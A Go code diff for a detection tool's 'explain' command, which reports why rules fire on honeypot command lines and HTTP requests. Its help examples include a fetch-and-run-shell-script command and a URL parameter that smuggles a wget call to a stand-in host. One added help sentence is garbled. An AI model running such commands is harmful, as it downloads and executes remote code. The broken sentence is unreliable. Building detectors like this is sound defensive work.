@@ -10,6 +10,7 @@ import (
 	"github.com/spf13/pflag"
 
 	"ttpctl/internal/engine"
+	"ttpctl/internal/event"
 )
 
 // explainFlags are the flags of `ttpctl explain`.
@@ -17,6 +18,7 @@ type explainFlags struct {
 	output  outputs
 	rules   ruleLayers
 	event   string
+	kind    string
 	pwd     string
 	session string
 	ask     []string // --rule
@@ -34,21 +36,27 @@ or does not: each part of its match, with the values it looked at.
 
 The input is a command line (several arguments are joined by a blank; quote
 it, or put -- before it, when it has options), an event as JSON, or - for
-stdin: one or the other on each line, at most 1,000 of them. A line that begins
-with { and a name in double quotes is an event. Values that may not be evidence,
+stdin: one or the other on each line, at most 1,000 of them. A line that YY that may not be evidence,
 such as passwords, are not shown.
+
+With --kind the input is what events of another kind hold: for http_request a
+request line or URL, behind which headers and, after an empty line, a body may
+stand. Each parameter and header of a request is shown as it was sent and in
+all forms that something behind the server may decode it to.
 
 Exit code 2 says that there was no input, that an event is malformed or that
 no rule has that id. A rule that does not fire is not a failure.`,
 		Example: `  ttpctl explain 'cd /tmp; wget http://192.0.2.7/x.sh -O- | sh'
   ttpctl explain --rule R0012 'echo wget http://192.0.2.7/x.sh'
   ttpctl explain --event '{"source_kind":"auth_attempt","source_id":"a1","attacker_ip":"192.0.2.7","payload":{"username":"root"}}'
+  ttpctl explain --kind http_request -- 'GET /ping?host=192.0.2.1%3Bwget+http://192.0.2.7/x.sh'
   jq -r 'select(.eventid == "cowrie.command.input").input' cowrie.json | head -50 | ttpctl explain -o json -`,
 		ValidArgsFunction: cobra.NoFileCompletions,
 	}
 	fs := cmd.Flags()
 	outputFlag(cmd, &f.output, "table", "json")
 	fs.StringVar(&f.event, "event", "", "the `event` to explain, a JSON object")
+	enumVar(cmd, fs, &f.kind, "kind", event.KindCommand.String(), textKinds(), "what inputs that are no event are: the default field of this kind")
 	fs.StringVar(&f.session, "session", "", "a `file` of command lines or events, - for stdin, explained as one session")
 	fs.StringVar(&f.pwd, "pwd", "", "the `directory` in which the command lines were typed")
 	fs.StringSliceVar(&f.ask, "rule", nil, "also show why the rule with this `id` fires or does not; repeatable")
@@ -95,7 +103,7 @@ func runExplanation(ctx context.Context, f explainFlags, args []string, s *strea
 		}
 	}
 	now := s.now()
-	x := &explainer{session: f.session != "", pwd: f.pwd, snapshot: engine.NewSnapshot(rules, nil, now), ask: f.ask, now: now, scratch: engine.NewScratch()}
+	x := &explainer{kind: event.ParseKind(f.kind), session: f.session != "", pwd: f.pwd, snapshot: engine.NewSnapshot(rules, nil, now), ask: f.ask, now: now, scratch: engine.NewScratch()}
 	out, err := newExplainOutputs(list, x, s)
 	if err != nil {
 		return err
